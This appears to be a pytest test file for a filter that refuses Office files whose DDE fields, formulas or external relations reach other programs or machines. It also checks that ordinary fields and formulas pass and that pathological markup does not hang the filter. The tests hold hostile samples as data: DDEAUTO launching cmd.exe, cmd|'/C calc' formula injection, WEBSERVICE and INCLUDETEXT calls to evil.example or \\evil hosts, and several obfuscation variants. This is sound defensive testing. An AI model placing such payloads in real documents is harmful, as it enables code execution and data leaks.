"""Fields, formulas and relations of Office files that reach for another program or machine: none comes in."""

from __future__ import annotations

import io
import time
import zipfile

import docx
import openpyxl
import pytest
from docx.oxml import OxmlElement

from tests.files.made import CONTENT_TYPES, excel, packed, with_parts, word
from tests.files.test_office import external
from tests.files.test_taking import outcome, refusal, taken

W = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%b</w:body></w:document>'
ACTS, DAMAGED = "takes something from another program or machine", "damaged, or no ordinary one"
FETCHES = "fetches a template"
BEGIN, BETWEEN, END = (b'<w:r><w:fldChar w:fldCharType="%b"/></w:r>' % kind for kind in (b"begin", b"separate", b"end"))


def says(*runs: bytes) -> bytes:
    return b"".join(b'<w:r><w:instrText xml:space="preserve">%b</w:instrText></w:r>' % run for run in runs)


def field(*runs: bytes) -> bytes:
    return BEGIN + says(*runs) + BETWEEN + b"<w:r><w:t>shown</w:t></w:r>" + END


def document(*body: bytes, name: str = "word/header1.xml") -> bytes:
    return with_parts({name: W % b"".join(body)})


def sheet(cell: bytes, name: str = "xl/worksheets/sheet1.xml") -> bytes:
    return with_parts({name: b"<worksheet><c>%b</c></worksheet>" % cell}, "xl/workbook.xml")


START = rb"c:\\windows\\system32\\cmd.exe"
ACTING = {
    "a field that starts a program": (document(field(b" DDEAUTO " + START)), ACTS),
    "a field that asks first": (document(field(b"dde " + START)), ACTS),
    "a field in pieces": (document(field(b" DD", b"EAU", b"TO " + START)), ACTS),
    "a field with letters as numbers": (document(field(b"D&#68;EAUTO " + START)), ACTS),
    "a field in quotation marks": (document(field(b'"DDEAUTO" ' + START)), ACTS),
    "a field without an end": (document(BEGIN, says(b"DDEAUTO " + START), BETWEEN), ACTS),
    "a field in a field": (document(BEGIN, says(b"IF 1=1 "), field(b"DDEAUTO " + START), END), ACTS),
    "a field that another one spells": (document(BEGIN, field(b"QUOTE 68 68 69"), says(b" " + START), END), ACTS),
    "a field in what a field shows": (document(BEGIN, says(b"PAGE"), BETWEEN, field(b"DDE " + START), END), ACTS),
    "a field as an attribute": (document(b"<w:fldSimple w:dirty='1' w:instr='DDEAUTO %b'/>" % START), ACTS),
    "a field by another prefix": (document(field(b"DDEAUTO " + START).replace(b"w:", b"x:")), ACTS),
    "a field in UTF-16": (
        with_parts({"word/a.xml": (W % field(b"DDEAUTO " + START)).decode().encode("utf-16")}), ACTS),
    "a field in a part by another name": (document(field(b"DDEAUTO " + START), name="word/a.png"), ACTS),
    "a field that was deleted": (document(field(b"DDEAUTO x").replace(b"instrText", b"delInstrText")), ACTS),
    "a field cut by a comment": (document(BEGIN, says(b"DDE<!-- -->AUTO x"), END), DAMAGED),
    "a field hidden as letters": (document(BEGIN, says(b"<![CDATA[DDEAUTO x]]>"), END), DAMAGED),
    "an endless field": (document(BEGIN, says(b" " * 3_000_000 + b"DDEAUTO x"), END), DAMAGED),
    "letters that we cannot look through": (
        with_parts({"word/a.xml": b'<?xml version="1.0" encoding="UTF-7"?>' + W % b""}), "in an unusual way"),
    "a linked object": (document(field(rb"LINK Excel.Sheet.12 C:\\a.xlsx \a")), ACTS),
    "a text from a page": (document(field(b'INCLUDETEXT "https://evil.example/a.docx"')), ACTS),
    "a text from another machine": (document(field(rb'INCLUDETEXT "\\\\evil\\s\\a.docx"')), ACTS),
    "a picture from another machine": (document(field(rb'INCLUDEPICTURE "\\\\evil\\s\\a.png" \d')), ACTS),
    "a picture from another machine as a file": (document(field(b'INCLUDEPICTURE "file://evil/a.png"')), ACTS),
    "a formula that starts a program": (sheet(b"<f>cmd|'/C calc'!A0</f>"), ACTS),
    "a formula behind a text": (sheet(b"<f t='array'>\"it's\"&amp;cmd|'/C calc'!A0</f>"), ACTS),
    "a formula with letters as numbers": (sheet(b"<f>cmd&#x7c;'/C calc'!A0</f>"), ACTS),
    "a formula cut by a comment": (sheet(b"<f>cmd<!-- -->|'/C calc'!A0</f>"), DAMAGED),
    "a name for such a formula": (
        with_parts({"xl/a.xml": b"<definedName name='a'>cmd|'/C calc'!A0</definedName>"}, "xl/workbook.xml"), ACTS),
    "a rule with such a formula": (sheet(b"<x:formula1>cmd|'/C calc'!A0</x:formula1>"), ACTS),
    "a formula that asks a page": (sheet(b'<f>_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)</f>'), ACTS),
    "a link to another program": (
        sheet(b"<ddeLink ddeService='cmd' ddeTopic='/C calc'/>", "xl/externalLinks/externalLink1.xml"), ACTS),
    "an address list on another machine": (external(b"mailMergeSource", rb"file:///\\evil\s\a.csv"), FETCHES),
    "a relation of an unknown kind to a page": (external(b"whatever", b"https://evil.example/a"), FETCHES),
    "a film on another machine": (external(b"video", rb"\\evil\s\a.mp4"), FETCHES),
    "rich text that Word reads in": (
        with_parts({"word/_rels/document.xml.rels": b'<R><R Type="http://x/aFChunk" Target="a.rtf"/></R>'}),
        "another program's file"),
}  # fmt: skip


@pytest.mark.parametrize("name", ACTING)
def test_what_reaches_for_another_program_or_machine_is_refused(name: str) -> None:
    content, sentence = ACTING[name]
    assert sentence in refusal(content, "policy.docx")


ORDINARY = {
    "a table of contents": document(field(rb' TOC \o "1-3" \h \z \u ')),
    "a page number": document(b'<w:fldSimple w:instr=" PAGE   \\* MERGEFORMAT "><w:r/></w:fldSimple>'),
    "a link in a field": document(field(b' HYPERLINK "https://www.example.org/a|b" ')),
    "a choice around a field": document(BEGIN, says(b" IF "), field(b" PAGE "), says(b' = "1" "one" "more" '), END),
    "a picture that was pasted": document(field(rb' INCLUDEPICTURE "https://example.org/a.png" \* MERGEFORMATINET ')),
    "a picture of one's own": document(field(rb' INCLUDEPICTURE  "C:\\Users\\Sam\\a.png" \d ')),
    "a comment beside a field": document(b"<!-- made by a program -->", field(b" PAGE ")),
    "a text about it": document(b"<w:r><w:t>DDEAUTO is a field, and cmd|'x'!A0 a formula.</w:t></w:r>"),
    "a bar in a text": sheet(b"<f>A1&amp;\" | \"&amp;'Ward | North'!A1&amp;Staff[a|b]</f>"),
    "a fraction": document(b"<m:f><m:num>1|2</m:num></m:f>"),
    "a link to another workbook": external(b"externalLinkPath", rb"file:///\\trust\budget\a.xlsx"),
    "a film on a page": external(b"video", b"https://www.example.org/film"),
    "an address list on a drive": external(b"mailMergeSource", b"file:///C:\\Users\\Sam\\a.xlsx"),
    "an old declaration": with_parts({"word/a.xml": b"<?xml version='1.0' encoding='windows-1252'?>" + W % b""}),
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_fields_formulas_and_links_stay(name: str) -> None:
    assert taken(ORDINARY[name]).notes


def test_files_that_libraries_write_stay() -> None:
    paper = docx.Document(io.BytesIO(word()))
    simple = OxmlElement("w:fldSimple")
    simple.set("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}instr", "NUMPAGES")
    paper.paragraphs[0]._p.append(simple)
    book = openpyxl.load_workbook(io.BytesIO(excel()))
    book.active["A3"] = '=IF(A1="a|b","x","y")&TEXT(TODAY(),"d mmm")'  # type: ignore[index]  # it has a sheet
    for file in (paper, book):
        target = io.BytesIO()
        file.save(target)
        assert taken(target.getvalue()).notes


def test_markup_that_is_made_to_take_hours_takes_seconds() -> None:
    many = (b"<a/>" * 2_500_000, BEGIN * 100_000, b"<f>" + b"[" * 900_000, b"<f>" + b'"' * 900_001, b"<" * 5_000_000,
            b"<fldSimple instr" + b" " * 900_000, b"<f " + b"'" * 900_001, b"<" + b"a" * 5_000_000 + b":")  # fmt: skip
    begun = time.process_time()
    for body in many:
        parts = {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": W % body}
        assert outcome(packed(parts, zipfile.ZIP_STORED))
    assert time.process_time() - begun < 12
